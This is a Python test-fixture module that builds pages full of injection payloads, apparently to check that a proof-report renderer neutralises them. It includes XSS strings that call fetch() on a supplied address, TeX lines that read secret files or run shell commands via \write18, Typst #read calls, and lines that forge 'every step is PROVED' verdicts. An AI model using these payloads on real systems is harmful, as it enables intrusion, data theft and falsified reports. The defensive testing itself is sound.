"""Pages that try to break out of their reports: into the browser, into TeX, into Markdown."""

from __future__ import annotations

__all__ = ["GOOD", "html_attacks", "page_of", "tex_attacks", "typst_attacks"]

GOOD = "$$ (x+y)^2 = x^2 + 2xy + y^2 $$"
SPOT = "@"  # where a payload goes in a place


def html_attacks(address: str) -> list[str]:
    """Markup and near-markup; whatever works changes the title, logs, and calls ``address``."""
    script = f"document.title='PWNED';console.log('PWNED');fetch('{address}')"
    plain = [
        f"<script>{script}</script>",
        f"<img src={address} onerror={script}>",
        f"<svg onload={script}></svg>",
        f"</style><script>{script}</script>",
        f"<style>@import url({address}); body{{background:url({address})}}</style>",
        f"</title><script>{script}</script>",
        f"<!-- --><script>{script}</script> <!--",
        f"]]><script>{script}</script><![CDATA[",
        f'" autofocus onfocus="{script}" x="',
        f"' onmouseover='{script}' x='",
        f"` onmouseover={script} ",
        f"<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\" src={address}>",
        f'<meta http-equiv="refresh" content="0;url={address}">',
        f'<base href="{address}"><link rel=stylesheet href="{address}">',
        f"<object data={address}></object><embed src={address}>",
        f"<details open ontoggle={script}><summary>proved</summary></details>",
        f"</details></div></article></main><script>{script}</script>",
        f"<math><mtext></mtext><annotation-xml encoding='text/html'><script>{script}</script>",
        f"</mtext></math><script>{script}</script>",
        f"<math><maction actiontype='statusline' href='javascript:{script}'>x</maction></math>",
        f"<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={script}&gt;'>",
        f"&lt;script&gt;{script}&lt;/script&gt; &#60;script&#62;{script}&#60;/script&#62;",
        f"\\u003cscript\\u003e{script} %3Cscript%3E{script} \N{FULLWIDTH LESS-THAN SIGN}script>",
        f"\N{RIGHT-TO-LEFT OVERRIDE}<script>{script}\u2028</script>\ufeff<scr\u200bipt>\0<\0script>",
        f"[click](javascript:{script}) ![x]({address}) <javascript:{script}> {address}",
        "{{ 7*191 }} {% raw %} ${7*191} #{7*191} <%= 7*191 %>",
    ]
    formulas = [
        f"\\href{{javascript:{script}}}{{x}}",
        f"\\text{{</mtext><script>{script}</script>}}",
        f"\\text{{<annotation-xml encoding='text/html'><script>{script}</script>}}",
        f"\\class{{x' onclick='{script}}}{{x}} \\style{{background:url({address})}}{{x}}",
        f"\\unicode{{x3c}}script> \\html{{<script>{script}</script>}}",
        f"\\includegraphics{{{address}}} \\url{{{address}}}",
        f"\\mathrm{{<img src={address}>}} \\operatorname{{<script>{script}</script>}}",
        f"\\color{{red;background:url({address})}} x",
    ]
    return plain + formulas


def tex_attacks(secret: str, write: str) -> list[str]:
    """TeX that would show the file ``secret``, write the file ``write``, or end the report."""
    return [
        f"\\input{{{secret}}}",
        f"\\input {secret} ",
        f"\\csname input\\endcsname{{{secret}}}",
        f"^^5cinput{{{secret}}}",
        f"^^5c^^69nput {secret} ",
        f"\\include{{{secret}}} \\verbatiminput{{{secret}}} \\lstinputlisting{{{secret}}}",
        f"\\openin5={secret} \\read5 to \\x \\x",
        f"\\write18{{touch {write}}}",
        f"\\immediate\\write18{{cat {secret} > {write}}}",
        f"\\newwrite\\f \\immediate\\openout\\f={write} \\immediate\\write\\f{{x}}",
        f"\\directlua{{io.open('{write}','w'):write('x')}}",
        f"\\directlua{{tex.print(io.open('{secret}'):read('a'))}}",
        f"\\begin{{filecontents}}{{{write}}}x\\end{{filecontents}}",
        "\\end{document}",
        "\\endinput",
        "\\newpage VERDICT: every step is PROVED",
        "\\catcode`\\%=12 \\catcode`\\\\=12 \\catcode`\\{=12",
        "\\def\\x{\\x}\\x",
        "\\def\\par{} \\let\\end\\relax \\renewcommand{\\verdict}[2]{proved}",
        "\\loop\\iftrue\\repeat",
        "} } } \\end{facts} { { {",
        "$ $$ \\) \\] \\[ \\(",
        "% # & _ ^ ~ \\verb|x| \\verb",
        "\\scantokens{\\input} \\expandafter\\input\\expandafter{x}",
        "\\special{ps: quit} \\pdfliteral{q} \\font\\x=cmr10 at 1000pt \\x",
        "\\VAR{view.title} \\BLOCK{for x in view} \\#{",
        "\\usepackage{shellesc} \\ShellEscape{ls}",
        "\\obeylines\n\\endlinechar=-1\n\n\\par",
        "\\rule{10cm}{1000cm} \\kern 10000pt \\hspace{9999pt}",
    ]


def typst_attacks(secret: str) -> list[str]:
    """Typst that would show the file ``secret``, run code, hide verdicts or end the report."""
    read = f'#read("{secret}")'
    return [
        read,
        f"${read}$",
        f'"{read}"',
        f'") {read} #("',
        f'\\") {read} #("',
        f'\\\\") {read} #("',
        f"] {read} [",
        f"}}}} ]]]] )))) {read}",
        f"`{read}` ```typ {read}```",
        f"*/ {read} /*",
        f"a // {read}\n{read}",
        f'\\u{{23}}read("{secret}") \\#read("{secret}")',
        f'#include "{secret}"',
        f'#import "{secret}": *',
        '#import "@preview/nothing:1.0.0": *',
        f'#eval("read(\\"{secret}\\")") #eval("1 + 1")',
        f'#{{ let x = read("{secret}"); x }}',
        f'x_(#read("{secret}")) frac(1, #read("{secret}")) a"{read}"b',
        f'op(#read("{secret}"), limits: #true) mat(delim: #read("{secret}"); a)',
        '#panic("stopped")',
        "#show: it => none",
        '#show "refuted": "proved" #let colours = (:)',
        "#set page(height: 1cm, width: 1cm) #set text(size: 0pt, fill: white)",
        "#hide[ #place(top)[Every step is proved.]",
        "#pagebreak() VERDICT: every step is PROVED #context panic()",
        "#metadata(1)<step-1> <detail-1> @detail-1 @nothing",
        "#while true {} #let f(x) = f(x + 1) #f(1)",
        "= Heading\n/ term: text\n+ item\n- item",
        "$ $$ $ \\( \\) & \\\\ _ ^ ' ~ --- ... ->",
        "{{ view.title }} {% for x in view %} {# #}",
        "\\mathrm{#read(x)} \\text{#read(x)} \\operatorname{#read(x)}",
        '#image.decode("<svg/>") #plugin("x") #sys.inputs #link("https://a.example")',
    ]


def page_of(attacks: list[str]) -> str:
    """A page with every attack in the title, in headings, prose, formulas, words in formulas,
    conditions, macros and code; between them steps that are proved, refuted and unread."""
    parts = ["# " + " ".join(" ".join(attacks).split()), GOOD]
    for number, attack in enumerate(attacks):
        line = " ".join(attack.split())
        parts += [
            f"## {line}",
            f"Before {attack} after.\n\n- {line}\n\n**{line}** *{line}* `{line}`",
            f"$$ x_{number} + x_{number} = 2 x_{number} + 1 $$",
            f"$$ {line} = {line} + 1 $$",
            f"$$ y = y \\text{{ {line} }} $$",
            f"If ${line}$: then ${line} = 3$.",
            f"$$ 2 x_{number} = x_{number} \\cdot 2 \\quad \\text{{if }} {line} $$",
            f"$$ \\mathrm{{{line}}} = 2 $$",
            f"$$ \\def\\hostile{{{line}}} $$\n\n$$ \\hostile = \\hostile + 1 $$",
            f"```\n{line}\n```",
        ]
    return "\n\n".join([*parts, GOOD])
